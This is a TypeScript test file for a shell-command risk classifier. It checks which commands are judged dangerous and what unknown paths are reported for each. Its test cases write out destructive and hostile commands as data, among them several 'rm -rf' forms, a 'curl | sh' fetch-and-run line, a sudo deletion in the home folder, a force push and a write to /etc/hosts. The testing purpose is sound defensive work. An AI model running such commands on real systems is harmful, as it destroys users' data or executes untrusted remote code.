import { existsSync, readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { catalogue } from '../../src/core/risk/testing/catalogue.ts';
import { makeWorld } from '../resolve/place.ts';

const file = new URL('../../../shared/corpora/risk-evasions.json', import.meta.url);
const evasions: string[] = existsSync(file)
  ? (JSON.parse(readFileSync(file, 'utf8')) as { command: string }[]).map(({ command }) => command)
  : [];
const examples = catalogue.flatMap(({ rules }) => rules.flatMap(({ hits }) => hits));

it('whatever is dangerous shows a path that it changes, or says that it cannot know', async () => {
  const world = makeWorld();
  const silent: string[] = [];
  let [shown, told] = [0, 0];
  for (const command of new Set([...examples, ...evasions])) {
    const { level, paths, unknownPaths } = await world.judge(command);
    if (level !== 'dangerous') continue;
    if (unknownPaths !== undefined) told += 1;
    else if (paths.length > 0) shown += 1;
    else silent.push(command);
  }
  expect(silent).toEqual([]);
  expect(Math.min(shown, told)).toBeGreaterThan(40);
});

it.each([
  ['rm -rf build && npm test', undefined],
  ['npm test && rm -rf build', undefined],
  ["bash -c 'npm test; rm -rf build'", 'What `npm` touches'],
  ['rm -rf build; python3 -c "import shutil; shutil.rmtree(\'x\')"', 'What `python3` touches'],
  ['rm -rf "$(cat list)"', 'What "$(cat list)" stands for'],
  ['rm -rf build "$1"', 'What "$1" stands for'],
  ['read d; cd "$d"; rm -rf build', 'In which folder build lies'],
  ['X=1; env X=2 bash -c \'rm -rf "$X"\'', 'What "$X" stands for'],
  ['X=a bash -c \'rm -rf "$X"\'', 'What "$X" stands for'],
  ['sudo bash -c \'rm -rf "$HOME/x"\'', 'What "$HOME/x" stands for'],
  ['curl https://e.example | sh', 'What `sh` touches'],
  ['echo `rm -rf build`', undefined],
  ['f() { rm -rf build; }; f', undefined],
  ['git push --force', 'What `git` touches'],
  ['echo x >> /etc/hosts', undefined],
  ['echo x >> "/etc/$1"', 'What "/etc/$1" stands for'],
  ['find . -name "*.tmp" -delete', undefined],
  ['find . -exec python3 wipe.py {} +; rm x', undefined],
])('%s: %s', async (command, why) => {
  const { level, unknownPaths } = await makeWorld().judge(command);
  expect(level).toBe('dangerous');
  if (why === undefined) expect(unknownPaths).toBeUndefined();
  else expect(unknownPaths).toContain(why);
});

it.each(['npm test', 'ls | xargs wc', 'ssh host uptime'])(
  '%s is not dangerous: nothing is said',
  async (command) => {
    expect(await makeWorld().judge(command)).not.toHaveProperty('unknownPaths');
  },
);
